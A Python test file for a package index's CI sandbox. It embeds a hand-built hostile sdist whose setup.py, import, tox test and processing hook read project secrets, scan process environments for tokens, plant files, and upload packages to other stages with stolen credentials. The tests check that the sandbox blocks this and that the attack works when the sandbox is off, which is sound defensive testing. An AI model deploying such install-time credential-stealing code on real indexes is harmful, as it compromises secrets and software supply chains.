"""Code from the index runs in the sandbox: a hostile sdist uploaded by a non-owner with
twine reads no secret, writes nothing into the project, sees no other process and uploads
nothing, in its build script, its tox test, its import and its processing. The same
upload into a project whose owner switched the sandbox off succeeds at all of it: the
test sees an attack that works."""

from __future__ import annotations

import ast
import hashlib
import io
import json
import os
import sqlite3
import subprocess
import sys
import tarfile
import textwrap
from pathlib import Path

import pytest
from ci_support import run_until_idle
from conftest import new_project
from helpers import run

from pipl.ci.sandbox import (
    Rejected,
    Sandbox,
    SandboxRunner,
    check_tree,
    unavailable_reason,
)
from pipl.index.session import connect
from pipl.index.stages import create_default
from pipl.index.users import add_user
from pipl.project import server
from pipl.project.config import parse_sandbox
from pipl.project.project import Project

BIN = Path(sys.executable).parent
WHERE = ("setup", "import", "test", "process")

ATTACK = '''\
"""Tries everything a first-stage uploader's code should not be able to do."""
import base64, glob, io, os, sqlite3, sys, urllib.request, uuid

PROJECT, URL, OWNER = {project!r}, {url!r}, {owner!r}


def _upload(index, user, password, where):
    name = "pwned-" + where
    boundary = uuid.uuid4().hex
    fields = [(":action", "file_upload"), ("name", name), ("version", "1.0")]
    body = io.BytesIO()
    for key, value in fields:
        head = f"Content-Disposition: form-data; name=\\"{{key}}\\""
        body.write(f"--{{boundary}}\\r\\n{{head}}\\r\\n\\r\\n{{value}}\\r\\n".encode())
    head = f"Content-Disposition: form-data; name=\\"content\\"; filename=\\"{{name}}-1.0.tar.gz\\""
    body.write(f"--{{boundary}}\\r\\n{{head}}\\r\\n\\r\\n".encode())
    body.write(b"not really an sdist\\r\\n" + f"--{{boundary}}--\\r\\n".encode())
    auth = base64.b64encode(f"{{user}}:{{password}}".encode()).decode()
    request = urllib.request.Request(
        f"{{URL}}/{{index}}/", data=body.getvalue(), method="POST",
        headers={{"Content-Type": f"multipart/form-data; boundary={{boundary}}",
                 "Authorization": f"Basic {{auth}}"}},
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status == 200
    except Exception:
        return False


def attack(where):
    print(f"ATTACK-RAN {{where}}", flush=True)
    found = {{}}
    for path in glob.glob(PROJECT + "/.pipl/secrets/**", recursive=True):
        try:
            with open(path) as fh:
                data = fh.read()
        except OSError:
            continue
        print(f"ATTACK {{where}} read {{path}}: {{data}}", flush=True)
        found[os.path.basename(path)] = data.strip()
    for target in ("pipl.toml", f"planted-{{where}}", ".pipl/ci/planted",
                   ".pipl/pipe-data/other/planted"):
        path = os.path.join(PROJECT, target)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as fh:
                fh.write("# planted\\n")
            print(f"ATTACK {{where}} wrote {{path}}", flush=True)
        except OSError:
            pass
    try:
        db = sqlite3.connect(f"file:{{PROJECT}}/.pipl/ci/ci.sqlite?mode=rw", uri=True)
        db.execute(f"CREATE TABLE IF NOT EXISTS planted_{{where}} (x)")
        db.commit()
        print(f"ATTACK {{where}} wrote ci.sqlite", flush=True)
    except Exception:
        pass
    for environ in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(environ, "rb") as fh:
                text = fh.read().decode(errors="replace")
        except OSError:
            continue
        if "PIPL_" in text or "TOKEN" in text or "PASSWORD" in text:
            print(f"ATTACK {{where}} saw {{environ}}", flush=True)
    for name, secret in found.items():
        user = name.split(".")[0]
        for stage in ("qa", "prod", "base"):
            if _upload(f"{{OWNER}}/{{stage}}", user, secret, where):
                print(f"ATTACK {{where}} uploaded to {{stage}} as {{user}}", flush=True)


def process(outdir):
    attack("process")
    (outdir / "stolen").symlink_to(PROJECT + "/.pipl/secrets/root.password")
    return {{"name": "hostile-loot", "type": "report", "description": "loot"}}


attack("import")
'''

SETUP = """\
import sys
sys.path.insert(0, ".")
import hostile  # the import attacks too
hostile.attack("setup")
from setuptools import setup
setup()
"""

PYPROJECT = """\
[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "hostile"
version = "{version}"
description = "harmless, it says"
dependencies = ["pipl-pipe"]

[project.entry-points."pipl.process"]
hostile = "hostile:process"

[tool.setuptools]
packages = ["hostile"]
"""

TOX = """\
[tox]
envlist = py

[testenv]
commands = python -c "import hostile; hostile.attack('test')"
"""


def hostile_sdist(folder: Path, project: Project, version: str = "1.0") -> Path:
    """The sdist, written by hand: building it with its own setup.py would attack here."""
    top = f"hostile-{version}"
    files = {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: hostile\nVersion: {version}\n",
        "setup.py": SETUP,
        "pyproject.toml": PYPROJECT.format(version=version),
        "tox.ini": TOX,
        "hostile/__init__.py": ATTACK.format(
            project=str(project.root), url=project.url, owner=project.owner
        ),
    }
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{top}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    return path


def twine_upload(project: Project, index: str, user: str, password: str, path: Path) -> None:
    subprocess.run(
        [
            BIN / "twine",
            "upload",
            "--non-interactive",
            "--repository-url",
            f"{project.url}/{index}/",
            path,
        ],
        check=True,
        capture_output=True,
        env={**os.environ, "TWINE_USERNAME": user, "TWINE_PASSWORD": password},
    )


def secrets_of(project: Project) -> list[str]:
    """Every secret value the project keeps: passwords, secrets and cached tokens."""
    folder = project.root / ".pipl" / "secrets"
    values = [
        p.read_text().strip()
        for p in folder.iterdir()
        if p.is_file() and (p.suffix in (".password", ".secret") or p.name == "devpi-secret")
    ]
    for users in json.loads((folder / "tokens.json").read_text()).values():
        values += [entry["token"].rsplit(".", 1)[-1] for entry in users.values()]
    assert len(values) >= 6, values
    return values


def attacked(project: Project, tmp_path: Path) -> tuple[str, list]:
    """A non-owner uploads the hostile sdist to the first stage with twine; CI runs.
    Returns every job log, joined, and the jobs."""
    with connect(project, "admin") as admin:
        add_user(admin, "mallory", "mallory-password-1")
    before = hashlib.sha256((project.root / "pipl.toml").read_bytes()).hexdigest()
    twine_upload(
        project,
        project.stage_index(),
        "mallory",
        "mallory-password-1",
        hostile_sdist(tmp_path / "dist", project),
    )
    jobs = [j for j in run_until_idle(project) if j.project == "hostile"]
    logs = "\n".join(
        p.read_text(errors="replace")
        for p in sorted((project.root / ".pipl" / "ci" / "logs").glob("*.log"))
    )
    after = hashlib.sha256((project.root / "pipl.toml").read_bytes()).hexdigest()
    return logs + ("\nATTACK changed pipl.toml" if after != before else ""), jobs


def planted(project: Project) -> list[str]:
    found = [str(p) for p in project.root.rglob("planted*")]
    conn = sqlite3.connect(project.root / ".pipl" / "ci" / "ci.sqlite")
    try:
        found += [
            r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE name LIKE 'planted%'")
        ]
    finally:
        conn.close()
    with connect(project, "anonymous") as anon:
        for stage in ("qa", "prod", "base"):
            for where in WHERE:
                if anon.versions(f"{project.owner}/{stage}", f"pwned-{where}"):
                    found.append(f"pwned-{where} on {stage}")
    return found


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory, hermetic: Path):
    from pipl.ci import service

    proj = new_project(tmp_path_factory.mktemp("sandbox") / "victim")
    with server.running(proj):
        with connect(proj, "admin") as admin:
            create_default(proj, admin)
        yield proj
        service.stop(proj)


needs_sandbox = pytest.mark.skipif(
    unavailable_reason() is not None and not os.environ.get("PIPL_REQUIRE_SANDBOX"),
    reason=f"no sandbox here: {unavailable_reason()}",
)


@needs_sandbox
def test_a_hostile_sdist_from_a_non_owner_gets_nothing(hostile_project, tmp_path):
    logs, jobs = attacked(hostile_project, tmp_path)
    for where in WHERE:  # its code ran everywhere it could try
        assert f"ATTACK-RAN {where}" in logs, where
    assert "ATTACK " not in logs, [ln for ln in logs.splitlines() if "ATTACK " in ln]
    assert not [s for s in secrets_of(hostile_project) if s in logs]
    assert planted(hostile_project) == []
    by = {(j.index.rsplit("/", 1)[-1], j.handler): j for j in jobs}
    assert by["dev", "wheel"].state == "passed", by["dev", "wheel"].message
    assert by["dev", "qa"].state == "passed", by["dev", "qa"].message
    # its processing handed back a link to root's password: refused, nothing published
    process = by["qa", "process"]
    assert process.state == "failed"
    assert "stolen links outside its folder: refused" in process.message
    with connect(hostile_project, "anonymous") as anon:
        assert not anon.versions(f"{hostile_project.owner}/prod", "hostile-loot")


def test_without_the_sandbox_the_same_attack_works(tmp_path_factory, hermetic, tmp_path):
    """The owner's opt-out: the job logs say so, and the attack above then succeeds, so
    the test above sees a working attack when the defence is off."""
    from pipl.ci import service

    proj = new_project(tmp_path_factory.mktemp("nosandbox") / "open")
    with (proj.root / "pipl.toml").open("a") as toml:
        toml.write("\n[ci.sandbox]\nenabled = false\n")
    with server.running(proj):
        with connect(proj, "admin") as admin:
            create_default(proj, admin)
        try:
            logs, _ = attacked(proj, tmp_path)
        finally:
            service.stop(proj)
        assert "[ci.sandbox] enabled = false in pipl.toml" in logs
        status = run(["proj", "status", "--json"], project=proj.root)
        assert json.loads(status.stdout)["data"]["ci"]["sandbox"]["state"] == "disabled"
        assert "Warning: the CI sandbox is disabled: DISABLED by [ci.sandbox]" in status.stderr
        assert "ATTACK setup read" in logs and "ATTACK test read" in logs
        assert [s for s in secrets_of(proj) if s in logs]
        assert any("planted" in p for p in planted(proj))
        assert f"ATTACK test uploaded to prod as {proj.owner}" in logs


# -- the sandbox itself -------------------------------------------------------------------


@needs_sandbox
def test_sandboxed_code_sees_only_its_work_folder(tmp_path):
    project = tmp_path / "proj"
    secret = project / ".pipl" / "secrets" / "root.password"
    secret.parent.mkdir(parents=True)
    secret.write_text("hunter2-hunter2\n")
    work = project / ".pipl" / "ci" / "jobs" / "1" / "work"
    work.mkdir(parents=True)
    token = work.parent / "token"
    token.write_text("the job's token\n")
    os.environ["PIPL_SOMETHING"] = "runner-only"
    try:
        box = SandboxRunner(Sandbox(workdir=work, hidden=(project,)))
        done = box.run(
            [
                sys.executable,
                "-c",
                textwrap.dedent(f"""
                import os
                print(sorted(os.listdir({str(project)!r})))
                print(os.path.exists({str(secret)!r}), os.path.exists({str(token)!r}))
                print(sorted(p for p in os.listdir('/proc') if p.isdigit()))
                print('PIPL_SOMETHING' in os.environ, os.environ['HOME'])
                open('made-inside', 'w').write('ok')
                try:
                    open({str(project / "planted")!r}, 'w')
                except OSError as exc:
                    print('refused', type(exc).__name__)
            """),
            ],
            env={"PIPL_SOMETHING": "runner-only", "PIP_INDEX_URL": "http://x/simple/"},
        )
    finally:
        del os.environ["PIPL_SOMETHING"]
    lines = done.stdout.splitlines()
    assert lines[0] == "['.pipl']"  # only the mount point of its work folder
    assert lines[1] == "False False"
    assert len(ast.literal_eval(lines[2])) <= 3  # its own PID namespace: bwrap, python
    assert lines[3] == f"False {work / 'home'}"
    assert lines[4] == "refused OSError"  # a read-only, empty stand-in
    assert (work / "made-inside").read_text() == "ok"
    assert not (project / "planted").exists()


def test_what_a_sandbox_hands_back_is_checked(tmp_path):
    root = tmp_path / "out"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "ok.txt").write_text("fine")
    (root / "inside").symlink_to(root / "sub" / "ok.txt")
    assert check_tree(root, root, max_bytes=100) == 4
    with pytest.raises(Rejected, match="more than 3 bytes"):
        check_tree(root, root, max_bytes=3)
    (root / "sub" / "out").symlink_to("/etc/passwd")
    with pytest.raises(Rejected, match="sub/out links outside its folder"):
        check_tree(root, root, max_bytes=100)


def test_sandbox_settings_are_checked():
    assert parse_sandbox({"network": False}).network is False
    with pytest.raises(
        ValueError, match=r"\[ci.sandbox\] memory is not a setting \(did you mean 'memory_mb'"
    ):
        parse_sandbox({"memory": 1})
    with pytest.raises(TypeError, match=r"\[ci.sandbox\] enabled must be true or false"):
        parse_sandbox({"enabled": "no"})


@needs_sandbox
def test_network_false_cuts_tests_and_processing_off_but_not_installs(tmp_path):
    import socket

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    port = listener.getsockname()[1]
    probe = [
        sys.executable,
        "-c",
        f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2); print('ok')",
    ]
    work = tmp_path / "work"
    try:
        closed = SandboxRunner(Sandbox(work, (), config=parse_sandbox({"network": False})))
        assert closed.run(probe).stdout.strip() == "ok"  # an install step reaches the index
        cut = closed.offline().run(probe, check=False)
        # its own, empty network: loopback answers nothing of the host's
        assert cut.returncode != 0 and "ConnectionRefusedError" in cut.stdout
        shared = SandboxRunner(Sandbox(work, ())).offline()  # the default: network kept
        assert shared.run(probe).stdout.strip() == "ok"
    finally:
        listener.close()


def test_no_sandbox_no_index_code_and_one_line_saying_what_to_install(
    hostile_project, tmp_path, monkeypatch
):
    from ci_support import task_sdist

    from pipl.ci import sandbox

    monkeypatch.setenv("PIPL_BWRAP", str(tmp_path / "no-bwrap-here"))
    sandbox.find_bwrap.cache_clear()
    sandbox.unavailable_reason.cache_clear()
    try:
        state, line = sandbox.describe(sandbox.SandboxConfig())
        assert state == "unavailable" and "install bubblewrap" in line
        status = run(["proj", "status"], project=hostile_project.root)
        assert "sandbox:      NOT AVAILABLE, jobs that run index code fail" in status.stdout
        assert "Warning: the CI sandbox is unavailable" in status.stderr
        with connect(hostile_project, "owner") as owner:
            owner.upload(hostile_project.stage_index(), task_sdist(tmp_path, "closed", "1.0"))
        jobs = {j.handler: j for j in run_until_idle(hostile_project) if j.project == "closed"}
    finally:
        monkeypatch.delenv("PIPL_BWRAP")
        sandbox.find_bwrap.cache_clear()
        sandbox.unavailable_reason.cache_clear()
    assert jobs["wheel"].state == "passed"  # built in process: no code of the sdist runs
    assert jobs["qa"].state == "failed"
    assert jobs["qa"].message.startswith("not run: ")
    assert "no-bwrap-here cannot run" in jobs["qa"].message
    assert "install bubblewrap" in jobs["qa"].message and "\n" not in jobs["qa"].message
    assert jobs["promote"].state == "cancelled"  # nothing untested moves on


@needs_sandbox
def test_a_flood_of_output_comes_back_bounded(tmp_path):
    from pipl.ci.sandbox import MAX_OUTPUT

    box = SandboxRunner(Sandbox(tmp_path / "work", ()))
    flood = "import sys; sys.stdout.write('x' * 20_000_000); sys.stderr.write('the end')"
    done = box.run([sys.executable, "-c", flood], check=False)
    assert done.returncode == 0
    assert len(done.stdout) < MAX_OUTPUT + 100
    assert "bytes of output left out" in done.stdout and done.stdout.endswith("the end")
    small = SandboxRunner(Sandbox(tmp_path / "work", (), config=parse_sandbox({"file_size_mb": 1})))
    capped = small.run([sys.executable, "-c", flood], check=False)
    assert capped.returncode != 0  # the file size limit stops the writer


@needs_sandbox
def test_the_sandboxs_tmp_is_bounded(tmp_path):
    from pipl.ci.sandbox import _knows_size, find_bwrap

    if not _knows_size(str(find_bwrap())):
        pytest.skip("this bwrap cannot bound a tmpfs (bubblewrap 0.10 and later can)")
    small = SandboxRunner(Sandbox(tmp_path / "work", (), config=parse_sandbox({"file_size_mb": 2})))
    # many files, each under the file size limit: the tmpfs's own bound stops them
    fill = "for i in range(8): open(f'/tmp/fill{i}', 'wb').write(b'x' * 1_000_000)"
    done = small.run([sys.executable, "-c", fill], check=False)
    assert done.returncode != 0 and "No space left on device" in done.stdout


@needs_sandbox
def test_landlock_keeps_writes_to_the_sandboxs_own_folders(tmp_path):
    from pipl.ci import confine

    if not confine.available() and not os.environ.get("PIPL_REQUIRE_SANDBOX"):
        pytest.skip("this kernel has no Landlock")
    write = [sys.executable, "-c", "open('/var/planted', 'w').write('x'); print('written')"]
    # /var is an empty folder in memory: only Landlock stops a write there
    on = SandboxRunner(Sandbox(tmp_path / "work", ())).run(write, check=False)
    assert on.returncode != 0 and "PermissionError" in on.stdout
    off = Sandbox(tmp_path / "work", (), config=parse_sandbox({"landlock": False}))
    assert SandboxRunner(off).run(write).stdout.strip() == "written"
    inside = [sys.executable, "-c", "open('ok', 'w').write('x'); print('written')"]
    assert SandboxRunner(Sandbox(tmp_path / "work", ())).run(inside).stdout.strip() == "written"


def test_a_processing_answer_is_checked_before_anything_is_built(tmp_path):
    from pipl.ci.builtin.process import checked_result
    from pipl.ci.handlers import HandlerFailed
    from pipl.errors import UsageError

    out = tmp_path / "outputs"
    (out / "a").mkdir(parents=True)

    def product(**change: object) -> dict[str, object]:
        item = {
            "name": "shot-010-render",
            "type": "render",
            "version": "1.0",
            "description": "",
            "outputs": str(out / "a"),
            "sources": [],
            "assets": {},
        }
        return {"products": [{**item, **change}]}

    assert checked_result(product(), "shot-010", out)["products"][0]["name"] == "shot-010-render"
    for change, needle in (
        ({"name": "six"}, "named six: a release's products are named after it"),
        ({"name": "../etc"}, "invalid product name"),
        ({"outputs": str(tmp_path)}, "outside the job's folder"),
        ({"sources": "six==1.0"}, "sources must be a list"),
        ({"version": 1}, "no text 'version'"),
    ):
        with pytest.raises((HandlerFailed, UsageError), match=needle):
            checked_result(product(**change), "shot-010", out)
